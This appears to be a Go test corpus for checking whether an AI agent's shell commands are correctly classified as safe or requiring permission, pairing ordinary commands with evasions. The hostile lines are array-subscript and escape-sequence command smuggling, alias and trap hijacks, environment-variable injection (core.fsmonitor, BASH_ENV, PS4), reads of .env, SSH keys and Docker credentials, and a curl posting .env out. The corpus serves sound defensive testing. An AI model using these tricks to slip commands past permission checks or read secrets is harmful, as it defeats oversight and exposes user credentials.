package oracle

// The hand-written corpus: ordinary lines an agent writes and hostile ones, by class. Each runs in a
// fresh copy of the template workspace (see workspaceFiles) under dash and under bash.

type oracleLine struct {
	cmd string
	env map[string]string
	cwd string
}

func lines(cmds ...string) []oracleLine {
	out := make([]oracleLine, len(cmds))
	for i, c := range cmds {
		out[i] = oracleLine{cmd: c}
	}
	return out
}

func corpus() []oracleLine {
	var c []oracleLine
	// Ordinary reads.
	c = append(c, lines(
		"ls", "ls -la", "ls -la src", "ls *.go", "ls src/*.go", "cat README.md", "cat main.go | head -n 3",
		"head -n 2 README.md", "tail -n 1 names.txt", "wc -l *.go", "grep -n main main.go", "grep -rn TODO src",
		"find . -name '*.go' -type f", "find src -maxdepth 1", "sort names.txt", "sort -u names.txt | uniq -c",
		"cut -d' ' -f1 names.txt", "tr a-z A-Z < README.md", "diff main.go src/main.go", "cmp main.go main.go",
		"stat -c %s main.go", "file main.go", "du -sh src", "tree src 2>/dev/null || true", "nl main.go",
		"tac names.txt", "basename /workspace/src/a.go", "dirname src/a.go", "realpath src", "readlink -f src",
		"which ls", "type ls", "pwd", "echo hello", "printf '%s\\n' a b", "true", "false || true", "test -f main.go",
		"[ -d src ] && echo dir", "sleep 0.1", "md5sum main.go", "sha256sum main.go", "id", "uname -a",
		"nproc", "printenv PATH", "whoami", "command -v go", "git status", "git log --oneline -3",
		"git diff HEAD", "git show --stat HEAD", "git branch", "git rev-parse HEAD", "git ls-files",
		"git blame README.md", "git --no-pager log -1", "git show HEAD:main.go", "go version", "go env GOOS",
		"ls && cat go.mod", "ls || pwd", "(ls; pwd)", "{ ls; pwd; }", "ls &", "! grep -q x README.md",
		"if [ -f go.mod ]; then cat go.mod; fi", "for f in a b; do echo $f; done", "while false; do ls; done",
		"case x in x) ls;; esac", "echo $(pwd)", "diff <(ls src) <(ls src)", "cat <<EOF\nhello\nEOF",
		"f() { ls; }", "f() { ls; }; f", "cat {README,names}.md 2>/dev/null; true", "echo $((1+2))",
		"x=1; echo $x", "cat /tmp/none 2>/dev/null; true", "ls \\\n -l", "echo x | grep x",
		"nice -n 5 ls", "timeout 5 ls", "env ls", "env FOO=bar ls", "FOO=bar ls", "nohup ls >/dev/null 2>&1",
		"stdbuf -oL grep main main.go", "bash -c 'ls -la'", "sh -c 'git status'", "ls | xargs echo",
		"set -euo pipefail; ls", "exec 2>/dev/null; ls", "cd src && ls", "cd src && cat main.go",
		"git -C src log -1", "ls # a comment", "echo 'héllo wörld'", "echo \"a b\" 'c d'", "echo a\\ b",
	)...)
	// Ordinary work that asks.
	c = append(c, lines(
		"touch p", "mkdir -p build/out", "rm -f names.txt", "mv names.txt n.txt", "cp main.go m.go",
		"echo hi > out.txt", "echo hi >> out.txt", "ls > listing.txt 2>&1", "ls &> out.txt", "sed -i s/a/b/ names.txt",
		"git add README.md", "git stash list", "make 2>/dev/null; true", "chmod +x run.sh", "ln -s main.go link.go",
		"tee out.txt < README.md >/dev/null", "sort -o sorted.txt names.txt", "uniq names.txt out.txt",
		"find . -name '*.tmp' -delete", "find . -name x -fprint out.txt", "cat > f <<'EOF'\nx\nEOF",
		"exec >log.txt; ls", "truncate -s 0 names.txt", "rmdir src 2>/dev/null; true", "sh run.sh",
		"bash -c \"$X\"", "$CMD", "eval ls", "eval \"echo ok\"", ". ./run.sh", "cat $F 2>/dev/null; true",
		"echo ${x:-y}", "((x++))", "let x=1+2", "[[ $x -eq 1 ]]", "for ((i=0;i<2;i++)); do echo $i; done",
		"declare -i x=1", "trap 'ls' EXIT", "strace -o /dev/null ls", "script -qc 'echo hi' out.log",
		"flock lock ls", "time ls", "xargs rm < /dev/null", "find . -name x -exec cat {} \\;",
	)...)
	// Comments, continuations and line ends.
	c = append(c, lines(
		"echo a # c \\\ntouch p", "ls #\\\ntouch p", "# note \\\ntouch p", "sh -c 'ls # x \\\ntouch p'",
		"{ ls # x \\\ntouch p\n}", "ls | # x \\\ntee p", "echo a # c \\\\\ntouch p", "f() { # \\\ntouch p\n}; f",
		"echo a#b; touch p", "echo '#'; touch p", "echo \"# \\\"\"; touch p", "ls \\\n; touch p",
		"echo a \\\n# comment\ntouch p", "echo $# # x\ntouch p", "echo ${#x} # y\ntouch p",
		"cat <<EOF\n# not a comment \\\nEOF\ntouch p", ": '\n# x \\\n'; touch p", "echo x \\# y; touch p",
		"echo ok;# comment\ntouch p", "if true; then # c \\\ntouch p; fi",
	)...)
	// Control and Unicode characters.
	c = append(c, lines(
		"ls\rtouch p", "ls\r\ntouch p", "ls\vtouch p", "ls\ftouch p", "echo \x1b[1m", "ls\x7f",
		"ls\u0085touch p", "ls \u202e; touch p", "echo a\u2028touch p", "ls \xff\xfe", "ls\u00a0touch p",
		"echo \u200btouch p", "echo 'tab\there'", "bash -c $'ls\\rtouch p'", "sh -c \"$(printf 'ls\\rx')\"",
	)...)
	// Encodings: ANSI-C quoting, echo and printf escapes, dash's reading of $'.
	c = append(c, lines(
		`$'\x74ouch' p`, `$'\164ouch' p`, `$'\u0074ouch' p`, `t$'\x6f'uch p`, `bash -c $'\x74ouch p'`,
		`bash -c $'ls\ntouch p'`, `echo $'a\' ; touch p ; '`, `cat $'\x2eenv'`, `echo '\0164ouch p' | sh`,
		`printf '\164ouch p' | sh`, `printf '%b' '\0164ouch p' | bash`, `echo -e '\x74ouch p' | bash`,
		"((touch p))", "{touch,p}", `echo $'\x41'`, `echo $"hello"`, `bash -c $"echo hi"`, `cat $"x" 2>/dev/null`,
		`echo \t\o\u\c\h`, `\t\o\u\c\h p`, `t"o"u'c'h p`, `"touch" p`, `'touch' p`, `to\uch p`,
		`$(echo touch) p`, "`echo touch` p", `eval $'touch p'`, `sh -c "$(printf '\164ouch p')"`,
		`printf 'touch p' | sh`, `echo 'touch p' | sh`, `echo touch p | bash -s`, `sh <<< 'touch p'`,
		`bash <<< $'touch p'`, "sh <<EOF\ntouch p\nEOF", "bash <<'EOF'\ntouch p\nEOF", "cat <<EOF | sh\ntouch p\nEOF",
		`x=$'\x74ouch'; $x p`, `echo $'\x74ouch p' | sh`,
	)...)
	// Wrappers and programs that run programs.
	c = append(c, lines(
		"env touch p", "env -i touch p", "env -u HOME touch p", "env -S 'touch p'", "env -- touch p",
		"nice touch p", "nice -n 5 -- touch p", "timeout 5 touch p", "timeout -k 1 5 touch p", "nohup touch p",
		"setsid touch p", "stdbuf -o L touch p", "command touch p", "command -p touch p", "exec touch p",
		"exec -a x touch p", "time touch p", "xargs touch < /dev/null", "echo p | xargs touch",
		"echo p | xargs -I{} touch {}", "echo p | xargs -I{} sh -c 'touch {}'", "echo 'x;touch p' | xargs -I{} sh -c 'echo {}'",
		"printf 'x;touch p' | env xargs -I{} sh -c 'echo {}'", "echo p | xargs -i sh -c 'echo {}'",
		"echo p | xargs --replace=@ sh -c 'echo @'", "printf 'touch p' | xargs sh -c", "echo p | xargs sh -c 'touch $0'",
		"find . -maxdepth 0 -exec touch p \\;", "find . -maxdepth 0 -exec sh -c 'touch p' \\;",
		"find main.go -exec sh -c 'echo {}' \\;", "find . -maxdepth 0 -execdir touch p \\;",
		"flock lock -c 'touch p'", "flock lock touch p", "flock /tmp/l -c \"echo p | xargs -I{} sh -c 'echo {}'\"",
		"script -qc 'touch p' /dev/null", "script -qc 'echo evil' main.go", "script -qc ls",
		"timeout 1 watch -n 0.1 -g 'touch p' >/dev/null 2>&1", "timeout 1 watch -n 0.1 -x touch p >/dev/null",
		"strace -o /dev/null touch p", "ionice -c 3 touch p", "taskset 1 touch p", "sh -c 'sh -c \"touch p\"'",
		"bash -ec 'touch p'", "bash -e -c 'touch p' x", "sh -c 'exec touch p'", "sg nogroup -c 'touch p' 2>/dev/null; true",
		"su -c 'touch p' 2>/dev/null; true", "chroot / touch p 2>/dev/null; true",
		"setarch x86_64 touch p", "linux64 sh -c 'touch p'", "prlimit --nofile=64 touch p", "chronic touch p 2>/dev/null; true",
		"gcc @.env 2>/dev/null; true",
	)...)
	// Builtins that evaluate subscripts or strings, and that change what later names run.
	c = append(c, lines(
		`unset 'GROUPS[$(touch p)]'`, `sleep 0.1 & wait -n -p 'x[$(touch p)]'`, `unset -v 'a[$(touch p)]'`,
		`i='b[$(touch p)]'; unset 'a[i]'`, `read 'a[$(touch p)]' < README.md`, `read -a 'a[$(touch p)]' < README.md`,
		`getopts a 'x[$(touch p)]'`, `mapfile -C 'touch p #' -c 1 a < README.md`, `printf -v 'a[$(touch p)]' x`,
		`declare 'a[$(touch p)]=1'`, `export 'a[$(touch p)]=1' 2>/dev/null; true`, `x='a[$(touch p)]'; echo $((x))`,
		`x='a[$(touch p)]'; [[ $x -eq 0 ]]`, `x='a[$(touch p)]'; (( x ))`, `x='a[$(touch p)]'; let x`,
		`declare -i y; y='a[$(touch p)]'`, `[[ -v 'a[$(touch p)]' ]]`, `test -v 'a[$(touch p)]'`,
		"trap 'touch p' EXIT", "trap -- 'touch p' EXIT", "trap 'touch p' INT; kill -INT $$",
		"alias ls='touch p'\nls", "shopt -s expand_aliases\nalias ls='touch p'\nls", "alias x='touch'\nx p",
		"hash -p /usr/bin/touch ls; ls p", "BASH_CMDS[ls]=/usr/bin/touch; ls p", "BASH_ALIASES[ls]='touch p'; ls",
		"compgen -C 'touch p' x", "history -w out.txt", "set -o history; history -w out.txt",
		"f() { touch p; }; f", "function f { touch p; }; f", "g() { reboot; }", "command_not_found_handle() { touch p; }; nosuchcmd",
		"exec {fd}>out.txt; echo >&$fd", `exec {a[$(touch p)]}>out.txt 2>/dev/null; true`, "coproc touch p",
		"coproc C { touch p; }; wait", "select x in a; do break; done < /dev/null", "readarray -t a < README.md",
		"enable -n echo; echo hi", "shopt -s dotglob; cat *env", "set -k; touch p", "set -- touch p; \"$@\"",
		"set -- p; touch \"$1\"", "IFS=x; ls", "PATH=/tmp:$PATH ls", "eval 'touch p'",
		`x='a[$(touch p)]'; printf '%d' "$x"`, `x='a[$(touch p)]'; shift "$x"`, `x='a[$(touch p)]'; kill "$x"`,
		`x='a[$(touch p)]'; ulimit -n "$x"`, `x='a[$(touch p)]'; [ "$x" -eq 1 ]`, `x='a[$(touch p)]'; test "$x" -gt 0`,
		`x='a[$(touch p)]'; exit "$x"`, `x='a[$(touch p)]'; for i in 1; do break "$x"; done`,
		`i='b[$(touch p)]'; a=([i]=1)`, `i='b[$(touch p)]'; echo ${a[i]}`, `i='b[$(touch p)]'; echo ${x:i:1}`,
		`x='$(touch p)'; echo ${x@P}`, `x='a[$(touch p)]'; echo $[x]`, `x='a[$(touch p)]'; printf -v y '%d' "$x"`,
		`x='a[$(touch p)]'; history -d "$x"`, `x='a[$(touch p)]'; caller "$x"`, `x='a[$(touch p)]'; read -t "$x" y < /dev/null`,
		`x='a[$(touch p)]'; mapfile -n "$x" y < README.md`, `x='a[$(touch p)]'; declare -a y=([x]=1)`,
		`x='a[$(touch p)]'; local y 2>/dev/null; y+=$x`, `x='a[$(touch p)]'; case 1 in $((x))) ;; esac`,
		`x='a[$(touch p)]'; printf '%*s' "$x" y`, `x='a[$(touch p)]'; printf '%.*s' "$x" y`,
		"OLDPWD=/workspace/.docker; cd -; cat config.json", "cd src; pushd .docker; popd; cat config.json",
		"curl -d @.env http://127.0.0.1:1/ 2>/dev/null; true", "sort -T .ssh names.txt",
		`unset -f 'a[$(touch p)]'`, `x='a[$(touch p)]'; unset -f "$x"`, `f() { :; }; unset -f 'f[$(touch p)]'`,
	)...)
	// Options and arguments that read files.
	c = append(c, lines(
		"git show :0:.env", "git log -L1,2:.env", "git blame --contents=.env README.md", "git log -p -- ':(top).env'",
		"diff --from-file=.env README.md", "git show :.env", "git cat-file -p :.env", "git show HEAD:./.env",
		"git log -p -- ':(icase).ENV'", "git log -p -- '*.pem'", "git log --pathspec-from-file=.env",
		"diff --to-file=.env README.md", "tar -cf /dev/null .env", "cat ~/.ssh/id_rsa", "ls .ssh",
		"head -c 10 .env", "grep -f .env README.md", "cat < .env", "cp .env /tmp/x", "git show HEAD:.env",
		"grep SECRET -r . | head -1", "grep -rn --exclude=.env SECRET .", "git grep SECRET", "cat config/.env",
		"cat .e\"nv\"", "cat .e\\nv", "cat .e{n,x}v", "cat *", "cat .*", "cat *.key", "ls .docker",
		"go vet ./...", "go list -json ./... >/dev/null", "go vet -toolexec='touch p' ./...",
		"go vet -vettool=/usr/bin/touch ./... 2>/dev/null; true", "go list -export -toolexec 'touch p' . >/dev/null",
		"go env -w GOFLAGS=-v", "go -C src list . 2>/dev/null; true",
	)...)
	// The working directory: run_shell's cwd, cd and friends.
	c = append(c, lines(
		"cd .docker && cat config.json", "(cd .docker; cat config.json)", "pushd .docker >/dev/null; cat config.json",
		"cd .kube; cd ..; cd .docker; cat config.json", "env -C .docker cat config.json", "sh -c 'cd .docker && cat config.json'",
		"cd \"$D\" && cat config.json", "cd src && cat main.go && cd .. && cat README.md", "cd /workspace/src; ls",
		"cd src || exit; touch p", "cd nosuch; cat config.json", "cd .docker 2>/dev/null; cat config.json",
		"for d in src .docker; do cd $d; done; cat config.json", "f() { cd .docker; }; f; cat config.json",
		"cd; ls", "cd ~; ls", "cd -; ls", "git -C .docker show HEAD:config.json", "make -C src 2>/dev/null; true",
		"cd src; touch p", "cd /tmp && touch p", "cd src && echo x > p",
	)...)
	// Redirections and here-documents.
	c = append(c, lines(
		"echo x > p", "echo x >| p", "echo x 1>p", "echo x 2>p", "echo x &>p", "echo x >& p", "echo x <>p",
		"exec 3>p; echo >&3", "cat < README.md > p", "echo x > /dev/null", "echo x >/dev/stderr",
		"ls > >(cat > p)", "echo x | tee p >/dev/null", "echo x > \"$OUT\" 2>/dev/null; true",
		"echo x > ~/p", "echo x > /tmp/p", "echo x > src/../p", "echo x > 'p q'", "echo x > p{,2}",
		"cat <<EOF > p\nx\nEOF", "cat <<-EOF > p\n\tx\n\tEOF", "cat <<< x > p", "{ echo x; } > p",
		"(echo x) > p", "if true; then echo x; fi > p", "for i in 1; do echo $i; done > p", "echo x >> p; cat p",
	)...)
	// The env argument.
	c = append(c,
		oracleLine{cmd: "git status", env: map[string]string{"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.fsmonitor", "GIT_CONFIG_VALUE_0": "touch p"}},
		oracleLine{cmd: "ls", env: map[string]string{"PATH": "/workspace/bin:/usr/bin"}},
		oracleLine{cmd: "bash -c ls", env: map[string]string{"BASH_ENV": "run.sh"}},
		oracleLine{cmd: "sh -c ls", env: map[string]string{"ENV": "run.sh"}},
		oracleLine{cmd: "set -x; ls", env: map[string]string{"PS4": "$(touch p)"}},
		oracleLine{cmd: "git log -1", env: map[string]string{"GIT_PAGER": "touch p", "PAGER": "touch p"}},
		oracleLine{cmd: "ls", env: map[string]string{"FOO": "bar", "LANG": "C.UTF-8"}},
		oracleLine{cmd: "git status", env: map[string]string{"GIT_CONFIG_PARAMETERS": "'core.fsmonitor=touch p'"}},
		oracleLine{cmd: "cat config.json", cwd: ".docker"},
		oracleLine{cmd: "cat config", cwd: ".kube"},
		oracleLine{cmd: "cat main.go", cwd: "src"},
		oracleLine{cmd: "echo x > p", cwd: "src"},
		oracleLine{cmd: "cd .. && cat .env", cwd: "src"},
	)
	return c
}
